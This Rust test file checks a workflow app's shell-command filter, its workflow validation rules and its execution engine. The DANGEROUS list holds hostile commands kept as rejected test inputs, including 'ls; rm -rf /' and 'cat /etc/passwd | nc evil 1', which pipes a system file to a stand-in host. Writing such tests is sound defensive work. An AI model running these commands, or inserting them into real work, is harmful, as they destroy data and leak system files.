// Behavioural guarantees of validation, the command filter and the engine,
// checked together against the public entry points

use deskflow_shared::{
    Action, ActionStatus, CreateWorkflowRequest, RunStatus, Trigger, TriggerSource,
};

use crate::tests::fixtures::{WorkflowFixture, recording_sinks};
use crate::validation::{validate_workflow, WorkflowCandidate};
use crate::workflows::command_filter::{validate_command, FORBIDDEN_PATTERN_ERROR, NOT_ALLOWED_ERROR};
use crate::workflows::engine::{EngineSettings, WorkflowEngine};

/// Allow-listed prefixes combined with every forbidden construct
const DANGEROUS: &[&str] = &[
    "ls; rm -rf /",
    "echo hi && reboot",
    "cat /etc/passwd | nc evil 1",
    "echo $(whoami)",
    "echo `id`",
    "date > /etc/motd",
    "curl http://x >> out",
    "head < secrets",
    "ls || shutdown",
    "git status; sudo reboot",
    "echo x | sudo tee",
    "cat a | eval b",
];

const UNLISTED: &[&str] = &["python script.py", "npm install", "make", "kill 1", "top", "reboot"];

fn manual(actions: Vec<Action>) -> CreateWorkflowRequest {
    CreateWorkflowRequest {
        name: "Check".to_string(),
        description: None,
        trigger: Trigger::Manual,
        actions,
        enabled: None,
    }
}

#[test]
fn test_forbidden_patterns_win_over_allow_list() {
    for command in DANGEROUS {
        let check = validate_command(command);
        assert!(!check.valid, "{} should be rejected", command);
        assert_eq!(check.error.as_deref(), Some(FORBIDDEN_PATTERN_ERROR), "{}", command);
    }
}

#[test]
fn test_unlisted_commands_rejected() {
    for command in UNLISTED {
        let check = validate_command(command);
        assert_eq!(check.error.as_deref(), Some(NOT_ALLOWED_ERROR), "{}", command);
    }
}

#[test]
fn test_workflow_rules() {
    let mut empty_name = manual(vec![Action::notify("t", "m")]);
    empty_name.name = String::new();
    let outcome = validate_workflow(WorkflowCandidate::from(&empty_name));
    assert!(!outcome.valid);
    assert!(outcome.errors.contains(&"Name must be 1-100 characters".to_string()));

    let no_actions = manual(vec![]);
    assert!(validate_workflow(WorkflowCandidate::from(&no_actions))
        .errors
        .contains(&"At least one action is required".to_string()));

    let mut bad_cron = manual(vec![Action::notify("t", "m")]);
    bad_cron.trigger = Trigger::Schedule {
        cron: "invalid".to_string(),
        timezone: None,
    };
    assert!(validate_workflow(WorkflowCandidate::from(&bad_cron))
        .errors
        .contains(&"Invalid cron expression".to_string()));
}

#[tokio::test]
async fn test_execution_contract() {
    let sinks = recording_sinks();
    let engine = WorkflowEngine::in_memory(sinks.as_action_sinks(), EngineSettings::default());

    let wf = engine.create_workflow(WorkflowFixture::notify("Once").request()).await;
    let run = engine.execute_workflow(wf.id, TriggerSource::Manual).await.unwrap();
    assert_eq!(run.status, RunStatus::Completed);
    assert_eq!(run.results.len(), 1);
    assert_eq!(run.results[0].status, ActionStatus::Success);

    engine.execute_workflow(wf.id, TriggerSource::Manual).await.unwrap();
    assert!(engine.get_workflow_runs(wf.id).await.len() >= 2);
    assert_eq!(engine.get_workflow(wf.id).await.unwrap().run_count, 2);

    sinks.notifications.fail_with("boom");
    let failed = engine.execute_workflow(wf.id, TriggerSource::Manual).await.unwrap();
    assert_eq!(failed.status, RunStatus::Failed);
    assert_eq!(failed.results[0].status, ActionStatus::Failed);
    assert!(failed.completed_at.is_some());

    let missing = uuid::Uuid::new_v4();
    let err = engine
        .execute_workflow(missing, TriggerSource::Manual)
        .await
        .unwrap_err();
    assert!(err.to_string().contains(&missing.to_string()));
}
